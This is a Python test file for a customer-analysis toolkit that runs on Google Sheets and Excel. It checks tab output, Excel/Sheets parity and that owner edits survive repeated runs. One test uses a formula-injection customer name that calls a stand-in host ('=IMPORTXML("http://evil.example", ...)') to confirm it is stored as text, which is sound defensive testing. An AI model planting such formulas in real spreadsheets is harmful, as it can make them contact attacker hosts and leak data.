"""The daily run on a Google Sheet through the CLI, and the same tabs as on Excel."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

from click.testing import CliRunner

from tests.fake_sheets.server import FakeSheets
from tests.helpers import TOOLKIT_TABS, read_tabs
from toolkit.cli import cli
from toolkit.excel.sample_writer import write_new_workbook
from toolkit.sample import build_sample

TODAY = dt.date(2026, 11, 22)
COMPARED = ("Summary", "Best customers", "Segments", "Follow-ups", "Drafts", "Data problems",
            "Find more like them", "Changes", "Settings", "Champion", "Drag - review")


def _plain(value: Any) -> Any:
    if isinstance(value, dt.datetime):
        return value.date() if value.time() == dt.time() else value
    if isinstance(value, float) and value.is_integer():
        return int(value)
    if value == "":
        return None
    return value


def _table(rows: list[Any]) -> list[tuple[Any, ...]]:
    plain = [tuple(_plain(v) for v in row) for row in rows]
    width = max((len(r) for r in plain), default=0)
    padded = [r + (None,) * (width - len(r)) for r in plain]
    while padded and all(v is None for v in padded[-1]):
        padded.pop()
    return padded


def _run_on_sheet(fake: FakeSheets, key: Path, today: dt.date) -> tuple[str, Any]:
    tabs = {name: [list(r) for r in rows] for name, rows in build_sample(today)}
    book = fake.create_spreadsheet(tabs, title="Juniper & Crumb customers")
    result = CliRunner().invoke(cli, ["run", "--source", fake.url(book), "--credentials",
                                      str(key), "--today", today.isoformat()])
    return book, result


def test_demo_data_on_a_google_sheet_gets_every_tab(sheets_via_fake: FakeSheets,
                                                    sheets_key: Path) -> None:
    book, result = _run_on_sheet(sheets_via_fake, sheets_key, TODAY)
    assert result.exit_code == 0, result.output
    titles = sheets_via_fake.tab_titles(book)
    assert set(titles) >= TOOLKIT_TABS
    assert titles[:3] == ["About", "Customers", "Orders"]
    assert sheets_via_fake.sheet(book, "Summary").charts
    run_log = sheets_via_fake.values(book, "Run log")
    assert "Google Sheets API calls" in str(run_log[1])
    calls_before = len(sheets_via_fake.sheets_calls())
    again = CliRunner().invoke(cli, ["run", "--source", sheets_via_fake.url(book),
                                     "--credentials", str(sheets_key),
                                     "--today", TODAY.isoformat()])
    assert again.exit_code == 0, again.output
    assert len(sheets_via_fake.sheets_calls()) - calls_before == calls_before


def test_same_content_gives_the_same_tabs_on_excel_and_on_sheets(
        sheets_via_fake: FakeSheets, sheets_key: Path, tmp_path: Path) -> None:
    book, result = _run_on_sheet(sheets_via_fake, sheets_key, TODAY)
    assert result.exit_code == 0, result.output
    path = tmp_path / "shop.xlsx"
    write_new_workbook(path, build_sample(TODAY))
    excel = CliRunner().invoke(cli, ["run", "--source", str(path),
                                     "--today", TODAY.isoformat()])
    assert excel.exit_code == 0, excel.output
    excel_tabs = read_tabs(path)
    assert [t for t in excel_tabs if t != "Run log"] == [
        t for t in sheets_via_fake.tab_titles(book) if t != "Run log"]
    for name in COMPARED:
        on_excel = _table([list(r) for r in excel_tabs[name]])
        on_sheets = _table(sheets_via_fake.values(book, name))
        assert on_excel == on_sheets, name


def test_hostile_customer_names_stay_text_on_the_sheet(sheets_via_fake: FakeSheets,
                                                       sheets_key: Path) -> None:
    hostile = '=IMPORTXML("http://evil.example", "//a")'
    tabs = {"Customers": [["Customer Name", "Email"], [hostile, "evil@example.com"],
                          ["+1 234", "plus@example.com"]],
            "Orders": [["Order date", "Customer email", "Amount"],
                       [TODAY - dt.timedelta(days=3), "evil@example.com", 12.5],
                       [TODAY - dt.timedelta(days=40), "plus@example.com", 8]]}
    book = sheets_via_fake.create_spreadsheet(tabs)
    result = CliRunner().invoke(cli, ["run", "--source", book, "--credentials",
                                      str(sheets_key), "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    cells = sheets_via_fake.cells(book, "Best customers")
    kinds = {c.value: c.kind for row in cells for c in row if c is not None}
    assert kinds[hostile] == "text"
    assert kinds["+1 234"] == "text"
    assert all(c.kind != "formula" for row in cells for c in row if c is not None)


def test_owner_edits_to_drafts_and_settings_survive_on_the_sheet(
        sheets_via_fake: FakeSheets, sheets_key: Path) -> None:
    book, result = _run_on_sheet(sheets_via_fake, sheets_key, TODAY)
    assert result.exit_code == 0, result.output
    drafts = sheets_via_fake.values(book, "Drafts")
    header = drafts[0]
    status = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[header.index("Status")]
    first_id = drafts[1][0]
    sheets_via_fake.set_cell(book, "Drafts", f"{status}2", "sent")
    settings = sheets_via_fake.values(book, "Settings")
    row = next(i for i, r in enumerate(settings, start=1) if r[0] == "Sign-off")
    sheets_via_fake.set_cell(book, "Settings", f"B{row}", "Cheers")
    again = CliRunner().invoke(cli, ["run", "--source", sheets_via_fake.url(book),
                                     "--credentials", str(sheets_key),
                                     "--today", (TODAY + dt.timedelta(days=1)).isoformat()])
    assert again.exit_code == 0, again.output
    after = {r[0]: r for r in sheets_via_fake.values(book, "Drafts")[1:]}
    assert after[first_id][header.index("Status")] == "sent"
    settings_after = {r[0]: r[1] for r in sheets_via_fake.values(book, "Settings")}
    assert settings_after["Sign-off"] == "Cheers"
    fresh = [r for r in after.values() if r[header.index("Status")] in (None, "")]
    assert all("Cheers" in str(r[header.index("Body")]) for r in fresh
               if str(r[header.index("Created")]) == (TODAY + dt.timedelta(days=1)).isoformat())
